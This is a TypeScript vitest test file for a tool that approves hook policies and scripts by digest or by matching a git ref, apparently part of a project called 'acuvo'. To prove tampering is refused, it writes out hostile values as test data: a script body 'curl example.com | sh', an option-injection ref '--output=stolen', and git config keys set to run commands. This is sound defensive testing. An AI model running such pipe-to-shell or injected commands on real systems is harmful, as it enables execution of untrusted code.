import { createHash } from 'node:crypto'
import { existsSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { Workspace } from '../support/workspace.mjs'
import {
  askFor,
  commit,
  endOf,
  expectRefused,
  expectTrusted,
  FILE,
  git,
  isStored,
  LEAVING_MARKS,
  SCRIPT,
  statusOf,
  trust,
} from './approval.js'
import { workspaceWith } from './judged.js'

/** Approving where no person sits: by a digest, or because a git ref has the same. */

const unapproved = (): Workspace => {
  const workspace = workspaceWith()
  workspace.change(FILE, JSON.stringify(LEAVING_MARKS))
  workspace.change(SCRIPT, 'touch ran\n')
  return workspace
}

describe('a digest', () => {
  const digestOf = async (workspace: Workspace): Promise<string> => {
    const ended = await trust(workspace, ['--digest'])
    expect(ended.exitCode, ended.stderr).toBe(0)
    expect(ended.stdout).toMatch(/^[0-9a-f]{64}\n$/)
    return ended.stdout.trim()
  }

  it('stands for the policy and all that it pins', async () => {
    const workspace = unapproved()
    const seen = [await digestOf(workspace)]
    expect(await digestOf(workspace)).toBe(seen[0])
    const steps: [string, string][] = [
      [SCRIPT, 'touch other\n'],
      [FILE, JSON.stringify(LEAVING_MARKS, null, 1)],
      ['.acuvo/added.sh', ''],
      ['.acuvo/added.sh', '\n'],
    ]
    for (const [path, text] of steps) {
      workspace.change(path, text)
      seen.push(await digestOf(workspace))
    }
    expect(new Set(seen).size).toBe(seen.length)
    expect(isStored(workspace)).toBe(false)
  })

  it('approves exactly that', async () => {
    const workspace = unapproved()
    const digest = await digestOf(workspace)
    const script = 'touch ran\n'
    workspace.change(SCRIPT, 'curl example.com | sh\n')
    await expectRefused(workspace, ['--expect', digest], 1, digest)
    await expectRefused(workspace, ['--yes', '--expect', digest], 1, digest)
    await expectRefused(workspace, ['--expect', createHash('sha256').update(script).digest('hex')], 1)
    workspace.change(SCRIPT, script)
    await expectTrusted(workspace, ['--expect', digest])
    expect(await statusOf(workspace)).toBe(0)
  })
})

describe('a git ref', () => {
  const committed = (): Workspace => {
    const workspace = unapproved()
    workspace.change('README.md', '# x\n')
    git(workspace, workspace.root, 'init', '-q')
    commit(workspace)
    return workspace
  }

  it.each([['HEAD'], ['main'], ['refs/heads/main']])('with the same policy approves it: %s', async (ref) => {
    const workspace = committed()
    workspace.change('README.md', '# changed, which is not the policy\n')
    await expectTrusted(workspace, ['--same-as', ref])
    expect(await statusOf(workspace)).toBe(0)
    expect(endOf(await askFor('codex', 'shell', workspace))).toBe('passes')
  })

  it.each<[string, (workspace: Workspace) => void]>([
    ['another policy', (workspace) => workspace.change(FILE, JSON.stringify(LEAVING_MARKS, null, 2))],
    ['another script', (workspace) => workspace.change(SCRIPT, 'touch other\n')],
    ['a script more', (workspace) => workspace.change('.acuvo/more.sh', 'true\n')],
    ['a script less', (workspace) => rmSync(join(workspace.root, SCRIPT))],
  ])('with %s does not, committed or not', async (_name, change) => {
    const workspace = committed()
    git(workspace, workspace.root, 'checkout', '-qb', 'fork')
    change(workspace)
    await expectRefused(workspace, ['--same-as', 'main'], 1, 'main')
    await expectRefused(workspace, ['--same-as', 'main', '--yes'], 1, 'main')
    commit(workspace)
    await expectRefused(workspace, ['--same-as', 'main'], 1, 'main')
  })

  it.each(['no-such-ref', '', '--output=stolen', 'main:.acuvo/hooks.json', 'HEAD~9'])('that is none approves nothing: %j', async (ref) => {
    const workspace = committed()
    const ended = await trust(workspace, [`--same-as=${ref}`])
    expect([1, 2]).toContain(ended.exitCode)
    expect(isStored(workspace)).toBe(false)
    expect(existsSync(join(workspace.root, 'stolen'))).toBe(false)
  })

  it('is asked for without running what the repository configures', async () => {
    const workspace = committed()
    for (const key of ['core.fsmonitor', 'core.pager', 'core.sshCommand', 'diff.external', 'core.editor'])
      git(workspace, workspace.root, 'config', key, `touch ${workspace.base}/ran-by-git; true`)
    await expectTrusted(workspace, ['--same-as', 'main'])
    expect(existsSync(join(workspace.base, 'ran-by-git'))).toBe(false)
  })

  it('outside of a repository approves nothing', async () => {
    const ended = await trust(unapproved(), ['--same-as', 'main'])
    expect([1, 2]).toContain(ended.exitCode)
  })
})
